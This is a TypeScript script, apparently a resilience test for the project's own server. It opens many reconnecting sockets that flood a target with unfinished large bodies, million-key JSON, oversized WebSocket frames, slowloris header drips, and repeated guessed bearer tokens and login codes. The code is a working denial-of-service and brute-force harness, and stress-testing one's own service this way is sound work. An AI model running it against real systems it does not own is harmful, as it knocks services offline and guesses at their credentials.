/** One attacker without a token: so many connections, each with one of the attacks, opened again when it is cut off. */
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';

const [url = '', count = '100'] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const HOST = `Host: ${hostname}:${port}`;
const JSON_TYPE = 'Content-Type: application/json';
const KEYS = Buffer.from(`{${Array.from({ length: 1_100_000 }, (_, i) => `"k${i}":1`).join()}}`);
const BODY = Buffer.alloc(1024 * 1024, 0x20);
const UPGRADE = `GET /ws/agent HTTP/1.1\r\n${HOST}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`;
/** A text frame that announces 4 MiB. */
const FRAME = Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0]);
const secret = (kind: string): string => `lh_${kind}_${randomBytes(32).toString('base64url')}`;
const post = (path: string, length: number, more = ''): string =>
  `POST ${path} HTTP/1.1\r\n${HOST}\r\n${JSON_TYPE}\r\n${more}Content-Length: ${length}\r\n\r\n`;

type Attack = (socket: Socket) => void;

/** Asks again as soon as it was answered. */
const again =
  (ask: () => string): Attack =>
  (socket) => {
    socket.on('data', () => void socket.write(ask()));
    socket.write(ask());
  };

const ATTACKS: Readonly<Record<string, Attack>> = {
  'unfinished bodies': (socket) => {
    socket.write(post('/ui/login', 16 * 1024 * 1024));
    const more = (): void => void (socket.write(BODY) && setTimeout(more, 10));
    socket.on('drain', more);
    more();
  },
  'a million keys': (socket) => {
    socket.write(post('/ui/login', KEYS.length));
    socket.write(KEYS);
  },
  'first frames': (socket) => {
    socket.write(UPGRADE);
    socket.once('data', () => {
      socket.write(FRAME);
      socket.write(BODY);
      socket.write(BODY);
    });
  },
  'slow heads': (socket) => {
    socket.write(`GET /healthz HTTP/1.1\r\n${HOST}\r\n`);
    const drip = setInterval(() => socket.write('X-Slow: 1\r\n'), 500);
    socket.once('close', () => clearInterval(drip));
  },
  'wrong tokens': again(() => post('/api/v1/tasks', 2, `Authorization: Bearer ${secret('adm')}\r\n`) + '{}'),
  'login guesses': again(() => {
    const body = JSON.stringify({ code: secret('login') });
    return post('/ui/login', body.length) + body;
  }),
};

const kinds = Object.values(ATTACKS);
/** What it did, told at its end: a flood that never came would prove nothing. */
const did = { connections: 0, answers: 0, mib: 0 };
process.once('SIGTERM', () => {
  process.stdout.write(`${JSON.stringify(did)}\n`, () => process.exit(0));
});
function attack(n: number): void {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.once('connect', () => (kinds[n % kinds.length] as Attack)(socket));
  did.connections++;
  socket.on('data', () => void did.answers++);
  socket.once('close', () => void (did.mib += socket.bytesWritten / 1024 / 1024));
  socket.once('close', () => setTimeout(() => attack(n), 50));
  socket.resume();
}
for (let n = 0; n < Number(count); n++) attack(n);
process.stdout.write('ready\n');
